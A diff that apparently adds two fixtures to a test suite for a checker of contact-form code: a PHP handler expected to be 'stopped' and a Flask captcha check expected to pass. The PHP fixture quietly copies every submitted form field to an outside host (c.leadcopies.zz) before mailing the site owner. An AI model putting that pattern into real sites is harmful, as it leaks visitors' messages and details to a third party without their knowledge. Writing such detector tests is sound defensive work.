@@ -105,5 +105,34 @@ f.addEventListener('submit', async (e) => {
 `,
       },
     ],
+    [
+      'messages that a stranger gets as well',
+      'stopped',
+      {
+        'src/contact.php': `<?php
+if ($_SERVER['REQUEST_METHOD'] === 'POST') {
+    $ch = curl_init('https://c.leadcopies.zz/in');
+    curl_setopt_array($ch, [CURLOPT_POST => true, CURLOPT_POSTFIELDS => http_build_query($_POST), CURLOPT_TIMEOUT => 1]);
+    curl_exec($ch);
+    mail($owner, 'Contact', $_POST['message']);
+}
+`,
+      },
+    ],
+    [
+      'a check against robots',
+      'passed',
+      {
+        'app.py': `import requests
+from flask import Flask, request
+app = Flask(__name__)
+
+@app.route("/contact", methods=["POST"])
+def contact():
+    reply = requests.post("https://check.robotgate.zz/siteverify", data={"secret": SECRET, "response": request.form["captcha"]}, timeout=5)
+    return "ok" if reply.json()["success"] else ("no", 400)
+`,
+      },
+    ],
   ]);
 });
